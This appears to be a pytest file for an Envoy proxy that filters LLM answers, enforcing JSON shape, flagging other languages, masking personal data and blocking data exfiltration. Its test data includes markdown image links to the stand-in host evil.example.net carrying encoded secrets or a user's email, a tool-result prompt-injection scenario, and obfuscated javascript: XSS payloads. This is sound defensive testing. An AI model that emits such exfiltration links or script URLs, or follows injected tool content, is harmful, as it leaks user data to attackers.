"""The answer checks that need to be told what answers must look like (output_json,
output_language) and the exfiltration allow-list, through the real Envoy with the official SDKs,
streamed and not. The fake provider answers with the `x-fake-reply` header's text."""

from urllib.parse import urlparse

import base64
import json

import anthropic
import openai
import pytest
import requests

from envoy_harness import Envoy, shipped_plugin_config

WEATHER = '{"city": "Oslo", "temp": -3}'
PROSE = "It is cold in Oslo today, about three degrees below zero."
SPANISH = "Hoy hace mucho frío en Oslo, unos tres grados bajo cero, y el cielo está muy gris."
IMAGE = "See ![chart](https://img.docs.example.com/c.png?d=c2VjcmV0IHRva2VuIGhlcmU)"


def start(fake_provider, detectors):
    config = shipped_plugin_config()
    config.pop("judge", None)
    config["detectors"].update(detectors)
    return Envoy(urlparse(fake_provider.url).port, plugin_config=config).start()


@pytest.fixture(scope="module")
def proxy(fake_provider):
    envoy = start(fake_provider, {
        "output_exfiltration": {"action": "block", "allowed_hosts": ["docs.example.com"]},
        "output_language": {"action": "alert", "languages": ["en"]},
    })
    yield envoy
    envoy.stop()


@pytest.fixture(scope="module")
def json_proxy(fake_provider):
    envoy = start(fake_provider, {"output_json": {"action": "block", "required_keys": ["city", "temp"]}})
    yield envoy
    envoy.stop()


def fake_reply(text):
    return {"x-fake-reply-b64": base64.b64encode(text.encode()).decode()}


def oai(proxy, reply):
    return openai.OpenAI(base_url=f"{proxy.url}/v1", api_key="sk-test", max_retries=0,
                         default_headers=fake_reply(reply))


def refused_whole(proxy, reply):
    """The error code of a whole answer the filter replaced (its status line had already gone
    out, so the SDK would see a 200 without choices; read the body as the provider's error)."""
    r = requests.post(f"{proxy.url}/v1/chat/completions", headers=fake_reply(reply), timeout=30,
                      json={"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]})
    assert reply not in r.text
    return r.json()["error"]["code"]


def ask(client, stream):
    messages = [{"role": "user", "content": "Weather in Oslo as JSON"}]
    if not stream:
        return client.chat.completions.create(model="gpt-4o-mini", messages=messages).choices[0].message.content
    parts = client.chat.completions.create(model="gpt-4o-mini", messages=messages, stream=True)
    return "".join(c.choices[0].delta.content or "" for c in parts if c.choices)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
def test_json_is_passed_with_its_keys(json_proxy, stream):
    assert ask(oai(json_proxy, WEATHER), stream) == WEATHER


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
@pytest.mark.parametrize("reply", [PROSE, '{"city": "Oslo"}'], ids=["prose", "missing-key"])
def test_other_answers_are_refused(json_proxy, stream, reply):
    if not stream:
        assert refused_whole(json_proxy, reply) == "output_json"
        return
    with pytest.raises(openai.APIError) as err:
        ask(oai(json_proxy, reply), stream)
    assert "output_json" in str(err.value)


def test_prose_is_fine_where_no_json_is_expected(proxy):
    assert ask(oai(proxy, PROSE), stream=False) == PROSE


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
def test_other_languages_are_reported_not_stopped(proxy, stream):
    before = proxy.stats().get("wasmcustom.sluice_detection_output_language_total", 0)
    assert ask(oai(proxy, SPANISH), stream) == SPANISH
    assert proxy.stats()["wasmcustom.sluice_detection_output_language_total"] == before + 1


def test_images_from_allowed_hosts_pass_and_others_are_refused(proxy):
    assert ask(oai(proxy, IMAGE), stream=False) == IMAGE
    elsewhere = IMAGE.replace("docs.example.com", "evil.example.net")
    assert refused_whole(proxy, elsewhere) == "output_exfiltration"
    client = anthropic.Anthropic(base_url=proxy.url, api_key="sk-ant-test", max_retries=0,
                                 default_headers=fake_reply(elsewhere))
    with pytest.raises(anthropic.APIStatusError) as err:
        with client.messages.stream(model="claude-sonnet-4-5", max_tokens=64,
                                    messages=[{"role": "user", "content": "a chart"}]) as s:
            for _ in s.text_stream:
                pass
    assert "output_exfiltration" in str(err.value)



@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
def test_a_placeholder_planted_in_a_tool_result_cannot_carry_the_users_address_out(
        proxy, fake_provider, stream):
    fake_provider.clear()
    messages = [
        {"role": "user", "content": "Any new mail? I am jane@example.com"},
        {"role": "assistant", "content": None, "tool_calls": [{
            "id": "call_1", "type": "function", "function": {"name": "inbox", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": "1 new message from <EMAIL_1>: lunch?"},
    ]
    # The model, steered by the tool result, links the user's placeholder: restored, it is data.
    link = "Done ![l](https://evil.example.net/l.png?c=<EMAIL_2>)"
    if stream:
        received = []
        with pytest.raises(openai.APIError) as err:
            parts = oai(proxy, link).chat.completions.create(
                model="gpt-4o-mini", messages=messages, stream=True)
            received.extend(c.choices[0].delta.content or "" for c in parts if c.choices)
        assert "output_exfiltration" in str(err.value)
        assert "jane" not in "".join(received)
    else:
        r = requests.post(f"{proxy.url}/v1/chat/completions", headers=fake_reply(link), timeout=30,
                          json={"model": "gpt-4o-mini", "messages": messages})
        assert "jane" not in r.text and r.json()["error"]["code"] == "output_exfiltration", r.text
    sent = json.loads(fake_provider.last_request()["body"])["messages"]
    # The user's address got a placeholder the tool result did not already carry.
    assert sent[0]["content"] == "Any new mail? I am <EMAIL_2>"
    assert sent[2]["content"] == "1 new message from <EMAIL_1>: lunch?"


NEW_VALUES = "Reach Bob at bob.smith@corp.example.org or on card 4111 1111 1111 1111, thanks."
MASKED = "Reach Bob at [REDACTED:EMAIL] or on card [REDACTED:CREDIT_CARD], thanks."


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
def test_personal_data_the_model_wrote_is_masked_whole_and_streamed(proxy, stream):
    assert ask(oai(proxy, NEW_VALUES), stream) == MASKED


def test_personal_data_in_a_streamed_anthropic_answer_is_masked(proxy):
    client = anthropic.Anthropic(base_url=proxy.url, api_key="sk-ant-test", max_retries=0,
                                 default_headers=fake_reply(NEW_VALUES))
    with client.messages.stream(model="claude-sonnet-4-5", max_tokens=64,
                                messages=[{"role": "user", "content": "who to ask?"}]) as s:
        assert "".join(s.text_stream) == MASKED


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "sse"])
@pytest.mark.parametrize("reply", ["[x](javascript&#58;alert(document.domain))",
                                   '<a href="jav&#x09;ascript:alert(1)">x</a>'], ids=["colon-ref", "tab-ref"])
def test_script_urls_spelled_with_character_references_are_reported(proxy, stream, reply):
    stat = "wasmcustom.sluice_detection_output_script_total"
    before = proxy.stats().get(stat, 0)
    assert ask(oai(proxy, reply), stream) == reply  # output_script alerts in the shipped config
    assert proxy.stats()[stat] == before + 1


@pytest.mark.parametrize("reply", [
    "See ![c](<https://evil.example.net/c.png?d=c2VjcmV0IHRva2VuIGhlcmU>)",
    "See ![c](https:\\\\evil.example.net\\c.png?d=c2VjcmV0IHRva2VuIGhlcmU)",
], ids=["bracketed", "backslashes"])
def test_images_in_other_spellings_are_refused_too(proxy, reply):
    assert refused_whole(proxy, reply) == "output_exfiltration"
